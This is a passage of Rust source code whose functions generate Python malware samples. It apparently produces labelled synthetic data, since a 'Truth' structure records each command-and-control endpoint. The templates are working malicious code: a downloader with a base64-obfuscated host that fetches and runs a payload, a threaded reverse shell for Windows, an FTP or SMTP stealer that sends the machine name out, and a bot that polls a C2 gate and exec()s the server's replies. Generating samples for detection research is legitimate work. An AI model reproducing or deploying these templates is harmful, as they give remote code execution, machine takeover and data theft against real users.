        "import base64,platform,os,subprocess,sys\ntry:import requests\nexcept:subprocess.check_call([sys.executable,'-m','pip','install','requests']);import requests\n\nsType = \"{kind}\"\ngType = \"root\"\not = platform.system()\nhome = os.path.expanduser(\"~\")\nhost1 = \"{turned}\"\nhost2 = base64.b64decode(host1[{back}:] + host1[:{back}]).decode()\nhost = 'http://' + host2 + ':{port}'\npd = os.path.join(home, \".n2\")\nap = pd + \"/pay\"\ndef download_payload():\n    if os.path.exists(ap):\n        try:os.remove(ap)\n        except OSError:return True\n    try:\n        if not os.path.exists(pd):os.makedirs(pd)\n    except:pass\n    try:\n        aa = requests.get(host+\"/payload/\"+sType+\"/\"+gType, allow_redirects=True)\n        with open(ap, 'wb') as f:f.write(aa.content)\n        return True\n    except Exception as e:return False\nres = download_payload()\nif res:\n    subprocess.Popen([sys.executable, ap])\n"
    )
}

/// A shell for Windows with two threads.
fn windows_shell(dice: &mut Dice, truth: &mut Truth) -> String {
    let (host, port) = truth.endpoint(dice);
    let (before, word) = hidden(dice, &host);
    format!(
        "{before}import os,socket,subprocess,threading;\ndef s2p(s, p):\n    while True:\n        data = s.recv(1024)\n        if len(data) > 0:\n            p.stdin.write(data)\n            p.stdin.flush()\n        else:\n            break\n\ndef p2s(s, p):\n    while True:\n        d = p.stdout.read(1)\n        if not d:\n            break\n        s.send(d)\n\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect(({word},{port}))\n\np=subprocess.Popen([\"{}\"], stdout=subprocess.PIPE, stderr=subprocess.STDOUT, stdin=subprocess.PIPE)\n\ns2p_thread = threading.Thread(target=s2p, args=[s, p])\ns2p_thread.daemon = True\ns2p_thread.start()\n\np2s_thread = threading.Thread(target=p2s, args=[s, p])\np2s_thread.daemon = True\np2s_thread.start()\n\ntry:\n    p.wait()\nexcept KeyboardInterrupt:\n    s.close()\n",
        dice.pick(&["sh", "cmd", "powershell"])
    )
}

/// FTP and mail, as old stealers have them.
fn old_server(dice: &mut Dice, truth: &mut Truth) -> String {
    let host = dice.host();
    let (before, word) = hidden(dice, &host);
    let file = dice.name();
    if dice.chance(60) {
        let port = if dice.chance(50) { 21 } else { dice.port() };
        truth.endpoints.insert((host, port));
        format!(
            "import ftplib, io, platform\n{before}srv = ftplib.FTP()\nsrv.connect({word}, {port})\nsrv.login('{file}', '{}')\nsrv.storbinary('STOR {file}.txt', io.BytesIO(platform.node().encode()))\nsrv.quit()\n",
            salad(dice, 9)
        )
    } else {
        let port = [25, 465, 587][dice.below(3)];
        truth.endpoints.insert((host, port));
        format!(
            "import smtplib, platform\n{before}server = smtplib.SMTP({word}, {port})\nserver.ehlo()\nserver.login('{file}@example.org', '{}')\nserver.sendmail('{file}@example.org', '{file}@example.org', 'Subject: ' + platform.node())\nserver.close()\n",
            salad(dice, 9)
        )
    }
}

/// A bot as a class with its settings on top.
fn agent_class(dice: &mut Dice, truth: &mut Truth) -> String {
    let url = truth.url(dice, &["/gate.php", "/panel/check", "/c2"]);
    let (server, path) = halves(&url);
    let (before, word) = hidden(dice, &server);
    let (class, key) = (camel(dice), salad(dice, 12));
    format!(
        "import json, random, sys, time, uuid\nimport urllib.request\n{before}\nSETTINGS = dict(server={word}, interval=30, key='{key}', debug=False)\nAGENTS = [\n    '{}',\n    '{}',\n]\n\nclass {class}(object):\n    def __init__(self, settings):\n        self.base = settings['server'].rstrip('/')\n        self.uid = uuid.uuid4().hex\n        self.idle = True\n\n    def _call(self, path, body):\n        req = urllib.request.Request(self.base + path, method='POST', data=json.dumps(body).encode('utf-8'))\n        req.add_header('User-Agent', random.choice(AGENTS))\n        req.add_header('X-Key', SETTINGS['key'])\n        return urllib.request.urlopen(req, timeout=20).read()\n\n    def loop(self):\n        while self.idle:\n            answer = self._call('{path}', {{'id': self.uid, 'py': sys.version}})\n            if answer:\n                exec(answer)\n            time.sleep(SETTINGS['interval'])\n\n{class}(SETTINGS).loop()\n",
        agent(dice),
        agent(dice)
    )
}
